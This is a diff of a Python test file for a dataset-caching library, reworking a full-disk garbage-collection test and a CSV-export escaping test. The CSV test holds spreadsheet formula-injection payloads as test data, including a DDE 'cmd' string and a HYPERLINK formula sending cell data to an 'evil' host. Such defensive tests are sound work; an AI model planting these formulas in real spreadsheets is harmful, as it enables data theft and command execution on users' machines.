@@ -172,7 +172,8 @@ def test_tampered_weights_copy_is_detected_restored_and_never_predicts(
 # ------------------------------------------------------------------ defect 3: full disk
 def _mount_tmpfs(path: Path, size: str) -> bool:
     path.mkdir(parents=True, exist_ok=True)
-    if os.geteuid() != 0 or shutil.which("mount") is None:
+    if (os.geteuid() != 0 or shutil.which("mount") is None
+            or os.environ.get("PAD_TEST_NO_MOUNT")):  # (the fallback, tried on purpose)
         return False
     r = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                        capture_output=True, text=True)
@@ -261,11 +262,30 @@ def test_full_disk_gives_cache_full_error_and_gc_frees_space(
     assert verify(ContentStore(cache)).ok
 
 
-def test_gc_on_a_full_disk_deletes_before_it_rewrites(emu: Emulator, small_disk: Path | None
-                                                      ) -> None:
-    if small_disk is None:
-        pytest.skip("needs a size-limited mount (root with mount); the injected variant is "
-                    "test_full_disk_gives_cache_full_error_and_gc_frees_space")
+def test_gc_on_a_full_disk_deletes_before_it_rewrites(
+        emu: Emulator, small_disk: Path | None, tmp_path: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    if small_disk is None:  # no mount here: the disk takes small writes, no shard of images
+        cache = tmp_path / "c"
+        ds = CachedDataset(DATASET, settings=_settings(emu, cache), progress=False)
+        ds.download_and_cache()
+        ds.close()
+
+        def full(fd: int, data: Any) -> int:
+            if len(data) > 200_000:
+                raise OSError(errno.ENOSPC, "No space left on device")
+            return os.write(fd, data)
+
+        monkeypatch.setattr(shard_io, "_write_bytes", full)
+        store = ContentStore(cache)
+        before = sum(p.stat().st_size for p in (cache / "shards").rglob("*.h5"))
+        gc(store, max_size="3MB", grace_seconds=0)
+        after = sum(p.stat().st_size for p in (cache / "shards").rglob("*.h5"))
+        assert after < before
+        monkeypatch.undo()
+        assert verify(store).ok
+        store.close()
+        return
     cache = small_disk / "cache"
     run = _run_disk_worker("download", cache, emu)
     assert run.returncode == 3, run.stdout
@@ -439,30 +459,27 @@ def test_a_network_error_names_the_fix() -> None:
 
 
 # ------------------------------------------------------------------ defect 10: CSV
-def test_registry_text_is_escaped_in_audit_and_comparison_csvs(tmp_path: Path,
-                                                               tiny_tflite_path: Path) -> None:
-    from pad_assets.comparison import compare_results
+def _csv_cells(files: list[Path]) -> list[str]:
+    cells = []
+    for f in files:
+        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@")), (f.name, cell)
+                cells.append(cell)
+    return cells
+
+
+def test_registry_text_is_escaped_in_audit_csvs(tmp_path: Path, tiny_tflite_path: Path
+                                                ) -> None:
     from pad_assets.csv_safety import escape_cell
+    from pad_assets.emulator.synthetic import CardAttributes
+    from pad_assets.ops.audit import export_audit
 
     for bad in ("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                 "\tx", "\rx"):
         assert escape_cell(bad) == "'" + bad
     assert escape_cell(-2.5) == -2.5 and escape_cell("ok") == "ok"
-    rows = []
-    for cid, drug in ((1, "=cmd()"), (2, "amoxicillin"), (3, "@evil")):
-        rows.append({"card_id": cid, "split": "test", "drug": drug, "quantity": 100,
-                     "actual": drug, "model": "m", "pipeline": "p", "prediction": drug,
-                     "probability": 0.9, "energy": -1.5, "label_type": "drug",
-                     "status": "ok", "detail": "", "truncated": False, "raw_key": f"{cid:064x}",
-                     "preprocessed_key": "a", "tensor_key": "b", "prediction_key": "c",
-                     "cached": True, "model_signature": "s"})
-    report = compare_results({"m": pd.DataFrame(rows)}, dataset="d", n_bootstrap=20)
-    report.write(tmp_path / "r")
-    files = list((tmp_path / "r").glob("*.csv"))
     # the audit of a dataset whose registry names a drug "=HYPERLINK(...)"
-    from pad_assets.emulator.synthetic import CardAttributes
-    from pad_assets.ops.audit import export_audit
-
     evil = CardAttributes(drug='=HYPERLINK("http://evil/?"&A1)', quantity=100,
                           camera="c", sample_id=1)
     with Emulator(make_config([DatasetSpec("evil2", [66000, 66001])], models=[],
@@ -470,15 +487,9 @@ def test_registry_text_is_escaped_in_audit_and_comparison_csvs(tmp_path: Path,
         ds = CachedDataset("evil2", settings=_settings(e, tmp_path / "c"), progress=False)
         ds.apply_model(PADTensorFlowAdapter(model_path=tiny_tflite_path,
                                             labels=TINY_DRUG_LABELS))
-        files.append(export_audit(ds, tmp_path / "audit")["csv"])
+        path = export_audit(ds, tmp_path / "audit")["csv"]
         ds.close()
-    seen = []
-    for f in files:
-        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
-            for cell in row:
-                assert not cell.startswith(("=", "+", "@")), (f.name, cell)
-                seen += [cell] if "HYPERLINK" in cell or "cmd" in cell else []
-    assert "'=cmd()" in seen and "'" + evil.drug in seen, seen
+    assert "'" + evil.drug in _csv_cells([path])
 
 
 # ------------------------------------------------------------------ defect 11: formats
